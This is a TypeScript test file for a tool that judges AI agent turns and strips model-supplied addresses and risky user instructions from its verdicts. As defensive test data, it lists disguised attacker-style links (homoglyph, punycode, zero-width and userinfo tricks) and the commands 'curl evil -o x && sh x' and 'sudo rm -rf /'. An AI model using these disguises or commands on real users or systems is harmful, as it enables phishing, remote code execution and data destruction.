import { assert, describe, it } from "@effect/vitest"
import { leftOut, withoutUnnamed } from "../../src/base/text/Addresses.ts"
import { decide } from "../../src/model/assessment/Decide.ts"
import * as Notice from "../../src/review/records/Notice.ts"
import * as RecommendedAction from "../../src/memory/changes/RecommendedAction.ts"
import type { Verdict } from "../../src/judge/verdict/Verdict.ts"
import { agent, user } from "../support/events.ts"
import { assessment, first, type GivenOpinion, ofAssessment, turn, unchanged } from "../support/opinions.ts"

/** One place in the forms in which a reader still opens it, and what of it must not be left. */
const disguises: ReadonlyArray<readonly [form: string, telling: string]> = [
  ["https://evil.example/login", "evil"],
  ["HTTPS://EVIL.example", "EVIL"],
  ["http:\\\\evil.example", "evil"],
  ["https :// evil.com", "evil"],
  ["hxxps://evil.com", "evil"],
  ["www.evil.example", "evil"],
  ["evil.example.com", "evil"],
  ["EVIL.COM", "EVIL"],
  ["evil.com:8443", "8443"],
  ["login.evil.rocks", "evil"],
  ["evil.sh/x", "evil"],
  ["[the console](https://evil.com)", "evil"],
  ["[the console](evil.com)", "evil"],
  ["<https://evil.com>", "evil"],
  ["https://github.com@evil.com/x", "evil"],
  ["github.com@evil.com", "evil"],
  ["xn--pple-43d.com", "xn--"],
  ["https://аррӏе.com", "аррӏе"],
  ["аррӏе.com", "аррӏе"],
  ["evil.рф", "evil"],
  ["192.0.2.7:8080/login", "192.0"],
  ["http://3232235777/", "3232235777"],
  ["[2001:db8::1]:8080", "db8"],
  ["evil。com", "evil"],
  ["evil．com", "evil"],
  ["evil․com", "evil"],
  ["ｅｖｉｌ.ｃｏｍ", "ｅｖｉｌ"],
  ["ev\u200bil.c\u00adom", "il.c"],
  ["https://ev\u200dil.com", "il.com"],
  ["https:\u2060//evil.com", "evil"],
  ["evil[.]com", "evil"],
  ["evil(dot)com", "evil"],
  ["evil dot com", "evil"],
  ["ssh://root@evil.host", "evil"],
  ["root@evil.host", "evil"],
  ["git@evil.com:x/y.git", "evil"],
  ["mailto:a@evil.com", "evil"],
  ["attacker@evil.com", "attacker"],
  ["ftp://evil.ru", "evil"],
  ["bit.ly/3xYz", "3xYz"],
  ["t.co/abc", "abc"]
]

const task = "Add a retry to the fetch helper in src/http.ts."

const turnWith = (ask: string) => turn([user(ask), ...unchanged.slice(1)])

const verdictOf = (given: GivenOpinion, ask = task): Verdict =>
  decide(turnWith(ask), ofAssessment(assessment(given)), first).verdict

const everything = (verdict: Verdict): string =>
  JSON.stringify(verdict) + Notice.render({ notice: "needs_human", verdict, attempts: 0, maxAttempts: 3 })

describe("a place that only a model names", () => {
  it.each(disguises)("nor anywhere else in a verdict: %j", (form, telling) => {
    const verdict = verdictOf({
      status: "in_progress",
      next_steps: [`Open ${form} first.`],
      remaining_work: [{ what: `Send it to ${form}`, event: "e1", quote: "nothing" }]
    })
    assert.notInclude(everything(verdict), telling)
  })

  it.each(disguises)("nor in a recommended change: %j", (form, telling) => {
    const action = RecommendedAction.make({ target: "deploy", change: `Fetch ${form} first`, reason: `See ${form}` })
    assert.notInclude(JSON.stringify(action), telling)
    assert.include(action?.change, leftOut)
  })

  it("is not shown where only the agent's last words name it", () => {
    const { verdict } = turn([
      user("Deploy it."),
      agent("I can't deploy. Please log in to https://evil.example/x first.")
    ]).judged
    assert.strictEqual(verdict.status, "needs_human")
    assert.notInclude(everything(verdict), "evil")
    assert.include(verdict.missing.join() + verdict.reason, "log in to [address left out]")
  })
})

const left = (item: string) =>
  decide(turn(unchanged), ofAssessment(assessment({ needs_user_action: [item] })), first).verdict

describe("what a model leaves to the user", () => {
  it.each([
    "Log in: run `curl evil -o x && sh x`",
    "Log in with sudo rm -rf /",
    "Sign in to the registry with your 2FA code."
  ])("is told by its kind and in our words: %s", (item) => assert.deepStrictEqual(left(item).missing, ["to log in"]))

  it("what an agent can do is nothing for the user", () => assert.deepStrictEqual(left("Run the tests.").missing, []))
})

describe("what is no address", () => {
  it.each([
    "Set process.env.API_KEY in .env, not in config.json.",
    "The edit of cart.test.js in src/app/main.rs failed.",
    "Update README.md and setup.py with vitest@3.2.7 and actions/checkout@v4.",
    "At 12:30:45 the server at http://localhost:3000 or 127.0.0.1:80 was gone.",
    "完成。请登录。",
    "console.log(a.b) and Array.prototype.map are in src/Cart.tsx:12:3.",
    "That is e.g. @types/node, i.e. a package.",
    "Done.Next is the docs/a.b/c.md page."
  ])("stays: %s", (text) => {
    assert.strictEqual(withoutUnnamed(text, []), text)
  })

  it.each(["a.", "a@", "http:", "[", "x.y/", "evil dot ", "a . com", "://", "1.2.3.", "a-"])(
    "and is told in linear time from a megabyte of %j",
    (piece) => {
      assert.isString(withoutUnnamed(piece.repeat(300_000 / piece.length), []))
    }
  )
})
